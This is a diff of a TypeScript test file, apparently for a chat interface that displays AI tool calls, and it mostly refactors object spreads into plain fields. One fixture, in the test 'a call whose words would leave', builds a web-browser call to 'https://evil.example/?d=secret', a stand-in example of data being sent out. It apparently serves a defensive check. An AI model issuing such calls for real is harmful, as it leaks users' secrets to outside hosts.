@@ -7,8 +7,13 @@ import type { ToolCallPart } from '@/lib/domain/message/content-part';
 import { showInEnglish } from '../../support/browser/show-in-english';
 
 const CALL: ToolCallPart = {
-  ...{ type: 'tool_call', toolCallId: 'c', name: 'calculator', input: '{}', output: null },
-  ...{ state: 'done', durationMs: 10 },
+  type: 'tool_call',
+  toolCallId: 'c',
+  name: 'calculator',
+  input: '{}',
+  output: null,
+  state: 'done',
+  durationMs: 10,
 };
 
 /** Returns the result as the line shows it when opened. */
@@ -116,7 +121,10 @@ describe('addresses in a result', () => {
 
 describe('a call whose words would leave', () => {
   const asking: ToolCallPart = {
-    ...{ ...CALL, name: 'web-browser', state: 'asking', output: null },
+    ...CALL,
+    name: 'web-browser',
+    state: 'asking',
+    output: null,
     input: JSON.stringify({ url: 'https://evil.example/?d=secret', more: 'x'.repeat(2_000) }),
     flow: {
       host: 'evil.example',
